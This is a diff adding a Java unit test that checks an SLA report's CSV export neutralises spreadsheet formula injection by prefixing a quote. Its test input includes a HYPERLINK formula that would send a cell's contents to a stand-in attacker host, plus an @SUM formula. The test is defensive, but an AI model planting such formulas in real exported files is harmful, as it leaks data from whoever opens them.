@@ -43,6 +43,14 @@ class SlaCsvTest {
     }
 
     @Test
+    void a_title_a_spreadsheet_would_run_reads_back_with_a_quote_before_it() throws IOException {
+        var csv = SlaCsv.render(week47(List.of(titled(1, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"), titled(2, "@SUM(A1)"))));
+
+        assertThat(parse(csv)).extracting(r -> r.get("title"))
+                .containsExactly("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(A1)");
+    }
+
+    @Test
     void a_resolved_row_reads_back_field_by_field() throws IOException {
         var report = week47(List.of(new SlaBlocker(7, "Legal review", Kind.OFF_TRACK, Impact.HIGH, "ana", "bo",
                 at("2026-11-16T13:05"), at("2026-11-19T09:00"), Status.RESOLVED)));
